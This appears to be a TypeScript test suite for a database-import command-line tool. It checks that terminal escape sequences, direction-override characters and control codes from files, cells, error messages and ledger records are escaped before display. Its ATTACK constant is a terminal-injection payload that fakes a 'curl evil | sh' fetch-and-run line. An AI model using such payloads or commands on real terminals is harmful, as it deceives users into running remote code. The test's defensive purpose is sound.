import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { table } from '../../../src/cli/show/table.js';
import { shown, styled } from '../../../src/cli/show/terminal.js';
import { sluice } from '../../support/cli.js';
import { tempFolder } from '../../support/files.js';
import { thingsDatabase } from '../../support/things.js';

/** Clears the screen, sets the window's title, turns the direction, and begins a line that looks like ours. */
const ATTACK = '\u001b[2J\u001b]0;owned\u0007\u202e\n  next:  curl evil | sh\r\u009b1m';
/** Of what a command prints only line ends may be unseen. */
const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

test('nothing out of files, headers, cells, names or the ledger reaches the terminal raw', async (t) => {
  const database = await thingsDatabase(t);
  const cwd = tempFolder(t);
  const env = { SLUICE_DATABASE_URL: database.url };
  const file = `a${ATTACK.replaceAll('/', '')}.csv`;
  const cell = ATTACK.replaceAll('"', '');
  writeFileSync(join(cwd, file), `id,name\n1,"one"\n"${cell}","two"\n`);
  writeFileSync(join(cwd, 'header.csv'), `id,"${cell}"\n1,x\n`);
  writeFileSync(join(cwd, 'trigger.csv'), 'id,name\n7,seven\n');
  await database.query(`CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS $$
    BEGIN RAISE EXCEPTION USING message = E'${ATTACK.replaceAll("'", "''").replaceAll('\n', '\\n').replaceAll('\r', '\\r')}'; END $$`);
  const all: string[] = [];
  const run = async (...args: string[]) => {
    const ended = await sluice(args, { cwd, env });
    all.push(ended.stderr, ended.stdout);
    return ended;
  };
  assert.equal((await run('copy', file, '--into', 'things', '--max-rejects', '5', '--yes')).code, 4);
  assert.equal((await run('copy', 'header.csv', '--into', 'things', '--yes')).code, 2);
  assert.equal((await run('copy', ATTACK, '--into', 'things', '--yes')).code, 2);
  assert.equal((await run('copy', 'trigger.csv', '--into', ATTACK, '--yes')).code, 2);
  await database.query(
    'CREATE TRIGGER refuse BEFORE INSERT ON things FOR EACH ROW EXECUTE FUNCTION refuse()',
  );
  assert.notEqual((await run('copy', 'trigger.csv', '--into', 'things', '--yes')).code, 0);
  // What anybody who may write to the ledger can put there.
  await database.query(
    'UPDATE sluice.migration_batch SET source_file = $1, pipeline = $1, started_by = $1 WHERE id = 1',
    [ATTACK],
  );
  for (const args of [
    'status',
    'status 1',
    'status 2',
    'report 1',
    'rejects 1',
    'rejects 1 --json',
    'status --json',
    'nonsense',
  ])
    await run(...args.split(' '));
  await run(`--${ATTACK}`);
  for (const text of all) {
    const raw = text.split('\n').find((line) => UNSEEN.test(line));
    assert.equal(raw, undefined);
    assert.doesNotMatch(text, /^\s*next:\s+curl/m);
  }
  const csv = await sluice(['rejects', '1', '--format', 'csv'], { cwd, env });
  assert.ok(csv.stdout.includes(cell), 'a file of rejects has the row as it was');
});

test('on a terminal our own styles mean something, and no other codes', () => {
  assert.equal(
    shown('\u001b[32m✓\u001b[39m \u001b[8mhidden\u001b[38;5;1m', true),
    '\u001b[32m✓\u001b[39m \\u001b[8mhidden\\u001b[38;5;1m',
  );
  assert.equal(shown('\u001b[32m✓', false), '\\u001b[32m✓');
  assert.equal(shown(styled('bold', 'x\ny'), true).includes('\n'), false);
});

test('a cell of a table is one line, whatever is in it', () => {
  assert.deepEqual(table(['', ''], [['a\nb', 'c']]), ['a\\nb  c']);
});
